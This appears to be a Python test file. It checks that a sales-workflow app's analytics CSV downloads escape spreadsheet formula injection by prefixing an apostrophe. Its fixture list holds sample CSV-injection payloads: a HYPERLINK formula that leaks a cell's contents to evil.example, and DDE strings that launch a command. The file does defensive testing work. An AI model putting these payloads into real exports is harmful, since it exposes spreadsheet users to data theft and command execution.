"""Issue 24.4: every CSV the app writes is safe to open in a spreadsheet. A member names
a deal (or an admin a step) with a formula; the manager's analytics downloads hold it as
text: each cell that would begin with =, +, -, @, tab or carriage return begins with an
apostrophe instead, and says the rest exactly as typed."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from tests.service.helpers import sales_graph, step_named
from wfm_app.csvfile import FORMULA_STARTS, safe_cell, to_csv
from wfm_app.engine import analytics, steps
from wfm_app.engine.analytics import forecast
from wfm_app.engine.schemas import StepUpdate
from wfm_app.entities import deals
from wfm_app.sqltypes import utc_now
from wfm_app.ui.state.analytics_views import build

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&B2,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]  # a name cannot begin with a tab or hold a carriage return; other text may (below)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(text: str) -> None:
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, text)


def test_formula_names_come_out_of_every_analytics_csv_as_text(seeded):
    graph = sales_graph()
    qualification = step_named(graph, "Qualification")
    steps.update_step(  # an admin's column title is text in the file too
        seeded.admin,
        qualification.id,
        StepUpdate(metadata={**qualification.metadata, "name": "=1+2 Qualification"}),
    )
    for name in FORMULAS:
        deal = deals.service.create(seeded.alice, deals.DealCreate(name=name))
        deals.service.move(seeded.alice, deal.id, qualification.id)

    now = utc_now()
    report = analytics.of(seeded.manager, graph.id, now - timedelta(days=7), now)
    view = build(report, forecast.forecast(seeded.manager, graph.id))
    assert set(view.csv) >= {"aging", "time_in_step", "funnel", "cumulative_flow"}
    for chart, text in view.csv.items():
        assert_no_formula(text), chart
    aging = cells(view.csv["aging"])
    names = {row[0] for row in aging[1:]}
    assert names == {"'" + name for name in FORMULAS}  # the rest exactly as typed
    assert "'=1+2 Qualification" in {row[1] for row in aging[1:]}
    header = cells(view.csv["cumulative_flow"])[0]
    assert "'=1+2 Qualification" in header


def test_numbers_stay_numbers_and_plain_text_stays_plain():
    text = to_csv(["name", "amount"], [["Acme renewal", -12.5], ["a=b", 3], ["", None]])
    assert cells(text) == [["name", "amount"], ["Acme renewal", "-12.5"], ["a=b", "3"], ["", ""]]
    assert safe_cell("=1") == "'=1" and safe_cell(-1) == -1
    for start in FORMULA_STARTS:
        assert cells(to_csv(["x"], [[f"{start}1+1"]]))[1] == [f"'{start}1+1"]
